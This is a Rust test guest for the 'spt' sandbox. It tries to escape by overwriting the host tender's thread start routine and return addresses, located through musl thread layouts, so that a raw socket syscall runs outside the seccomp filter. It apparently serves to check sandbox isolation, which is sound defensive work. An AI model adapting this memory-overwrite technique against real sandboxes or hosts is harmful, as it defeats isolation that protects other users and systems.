//! A guest of spt that overwrites the start routine and the return addresses of the tender's second thread, found by the layout
//! of musl's threads, and checks whether its own code then runs there outside of a seccomp filter.

#![no_std]
#![no_main]

use core::arch::asm;
use core::sync::atomic::{AtomicI64, Ordering::SeqCst};
use guests::peek_word;
use husk::{boot, clock};

husk::entry!(main);

/// Time that the other thread may take to run the new routine, in nanoseconds.
const PATIENCE_NS: u64 = 400_000_000;
/// Bytes of text that the tender may have on either side of its gate.
const TEXT: u64 = 64 << 20;
const NOT_YET: i64 = i64::MIN;

/// Answer of the kernel to a call that no filter lets through.
static ANSWER: AtomicI64 = AtomicI64::new(NOT_YET);

/// Makes the call socket(AF_UNIX, SOCK_STREAM, 0) in any thread that gets here.
extern "C" fn payload(_: u64) -> u64 {
    const SYS_SOCKET: i64 = 41;
    let answer: i64;
    // SAFETY: none: the test is that no thread runs this.
    unsafe {
        asm!("syscall", inlateout("rax") SYS_SOCKET => answer, in("rdi") 1, in("rsi") 1, in("rdx") 0, out("rcx") _, out("r11") _)
    };
    ANSWER.store(answer, SeqCst);
    loop {
        core::hint::spin_loop();
    }
}

/// Returns the top of the stack of the thread next to the one with this FS base (struct pthread of musl).
fn stack(fs: u64) -> u64 {
    const NEXT: u64 = 24;
    const STACK: u64 = 88;
    peek_word(peek_word(fs + NEXT) + STACK)
}

/// Finds the start routine on this stack (struct start_args of musl): a function of the tender, an argument, and a zero.
fn start_routine(stack: u64, gate: u64) -> Option<u64> {
    let is_start = |at: &u64| {
        let (routine, argument, control) = (peek_word(*at), peek_word(at + 8), peek_word(at + 16) as u32);
        routine.abs_diff(gate) < TEXT && argument > 0x10000 && control == 0
    };
    (0x20..0x400).step_by(8).map(|back| stack - back).find(is_start)
}

/// Overwrites all words of this stack that may be return addresses.
fn overwrite_returns(stack: u64, gate: u64) {
    const DEPTH: u64 = 64 << 10;
    for at in (stack - DEPTH..stack).step_by(8).filter(|at| peek_word(*at).abs_diff(gate) < TEXT) {
        // SAFETY: none: the write is the attack.
        unsafe { (at as *mut u64).write_volatile(payload as *const () as u64) };
    }
}

fn main() {
    let gate = peek_word(boot::info().gate + 8);
    // rdfsbase rax; mov [rip + …], rax; mov rax, [rip + the tender's FS base]
    let saves =
        (gate..gate + 0x400).find(|at| peek_word(*at) & 0xff_ffff_ffff == 0xc0_ae0f_48f3).expect("it has an FS base");
    let loads = saves + 5 + 7;
    let fs = peek_word((loads + 7).wrapping_add_signed((peek_word(loads + 3) as i32).into()));
    let stack = stack(fs);
    let found = start_routine(stack, gate).expect("there is a second thread");
    // SAFETY: none: the write is the attack.
    unsafe { (found as *mut u64).write_volatile(payload as *const () as u64) };
    overwrite_returns(stack, gate);
    husk::println!("overwritten");
    let until = clock::monotonic_ns() + PATIENCE_NS;
    while ANSWER.load(SeqCst) == NOT_YET && clock::monotonic_ns() < until {
        core::hint::spin_loop();
    }
    match ANSWER.load(SeqCst) {
        NOT_YET => {}
        answer => husk::println!("ran outside of the filter: {answer}"),
    }
}
